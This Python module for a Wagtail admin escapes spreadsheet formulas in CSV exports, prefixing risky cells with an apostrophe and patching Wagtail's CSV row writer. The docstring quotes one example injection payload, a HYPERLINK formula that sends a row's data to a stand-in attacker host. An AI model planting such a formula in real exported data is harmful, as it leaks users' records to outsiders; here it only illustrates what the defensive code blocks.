"""One export behaviour for every CSV the admin writes: a cell that a spreadsheet program would read
as a formula is written as text.

Organisations, search terms and page titles are typed by the public or by contributors, and
`=HYPERLINK("https://evil.example/?d="&A1,"Open")` in a CSV opens as a live link that sends the
row away. Wagtail neutralises formulas in its XLSX exports only; its CSV exports (every ReportView
and ModelViewSet listing with `list_export`) and the portal's own CSV downloads go through
`spreadsheet_text` here. The cell keeps its text after a leading apostrophe, which spreadsheet
programs read as "this is text" (OWASP's advice for CSV injection)."""

import csv
from typing import Any

from wagtail.admin.views.mixins import SpreadsheetExportMixin

# What a spreadsheet program may take as the start of a formula, including the full-width forms
# some programs fold to ASCII, and the control characters that can hide one on a second line.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def spreadsheet_text(value: Any) -> Any:
    """The value as it may be written to a CSV cell: text that could start a formula gets a
    leading apostrophe; numbers, dates and None (an empty cell) are left alone."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


class SafeCSVWriter:
    """csv.writer whose every cell goes through `spreadsheet_text`."""

    def __init__(self, output: Any) -> None:
        self.writer = csv.writer(output)

    def writerow(self, row: list[Any]) -> Any:
        return self.writer.writerow([spreadsheet_text(value) for value in row])


def _write_safe_csv_row(self: SpreadsheetExportMixin, writer: Any, row_dict: dict[str, Any]) -> Any:
    return writer.writerow(
        {
            field: spreadsheet_text(self.preprocess_field_value(field, value, self.FORMAT_CSV))
            for field, value in row_dict.items()
        }
    )


def escape_admin_csv_exports() -> None:
    """Make every Wagtail CSV export (reports, listings, form submissions) write formulas as text.
    Wagtail has no setting or hook for this; its one CSV row writer is replaced at start-up."""
    SpreadsheetExportMixin.write_csv_row = _write_safe_csv_row
